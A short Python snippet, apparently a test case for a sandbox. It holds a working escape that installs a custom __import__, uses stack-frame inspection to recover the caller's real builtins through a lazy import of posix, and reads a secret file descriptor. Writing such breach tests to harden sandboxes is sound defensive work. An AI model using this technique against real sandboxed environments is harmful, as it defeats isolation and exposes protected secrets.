# A lazy import with builtins of the cell's own, whose __import__ sees who calls it.
# breach: secret
# only: 3.15+
import sys
found = []
def importer(name, *rest):
    frame = sys._getframe(1).f_back
    found.append(frame.f_builtins["__import__"](name, *rest).pread(SECRET_FD, 100, 0))
    return sys
scope = {"__name__": "json", "__builtins__": {"__import__": importer,
                                             "__lazy_import__": __lazy_import__}}
exec("lazy import posix\nposix", scope)
found
